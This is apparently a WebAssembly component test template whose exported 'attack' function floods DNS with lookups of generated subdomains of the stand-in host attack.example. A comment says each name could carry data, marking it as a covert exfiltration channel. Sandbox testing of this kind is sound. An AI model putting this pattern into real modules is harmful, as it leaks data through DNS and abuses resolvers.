;; Looks up one name after the other, each of which could carry something.
(component
{network}
  (import "wasi:sockets/instance-network@0.2.0" (instance $instance
    (alias outer 1 $network (type $network))
    (export "instance-network" (func (result (own $network))))))
  (import "wasi:sockets/ip-name-lookup@0.2.0" (instance $names
    (export "resolve-address-stream" (type $answer (sub resource)))
    (alias outer 1 $network (type $network))
    (alias outer 1 $error-code (type $error-code-type))
    (export "error-code" (type $error-code (eq $error-code-type)))
    (export "resolve-addresses" (func (param "network" (borrow $network)) (param "name" string)
      (result (result (own $answer) (error $error-code)))))))
  (core module $heap-module (memory (export "memory") 1))
  (core instance $heap (instantiate $heap-module))
  (core func $network (canon lower (func $instance "instance-network")))
  (core func $resolve (canon lower (func $names "resolve-addresses") (memory (core memory $heap "memory"))))
  (core module $module
    (import "host" "network" (func $network (result i32)))
    (import "host" "resolve" (func $resolve (param i32 i32 i32 i32)))
    (import "heap" "memory" (memory 1))
    (data (i32.const 16) "aaaaaaaa.attack.example")
    (func (export "attack")
      (local $left i32) (local $network i32) (local $at i32)
      (local.set $network (call $network))
      (local.set $left (i32.const {goal}))
      (loop $more
        (call $resolve (local.get $network) (i32.const 16) (i32.const 23) (i32.const 0))
        ;; The next name: the first letter that isn't the last one is the next one, and all before it begin again.
        (local.set $at (i32.const 16))
        (loop $carry
          (if (i32.eq (i32.load8_u (local.get $at)) (i32.const 0x7a))
            (then
              (i32.store8 (local.get $at) (i32.const 0x61))
              (local.set $at (i32.add (local.get $at) (i32.const 1)))
              (br $carry))
            (else (i32.store8 (local.get $at) (i32.add (i32.load8_u (local.get $at)) (i32.const 1))))))
        (br_if $more (local.tee $left (i32.sub (local.get $left) (i32.const 1)))))))
  (core instance $attack (instantiate $module
    (with "host" (instance (export "network" (func $network)) (export "resolve" (func $resolve))))
    (with "heap" (instance $heap))))
  (func (export "attack") (canon lift (core func $attack "attack"))))
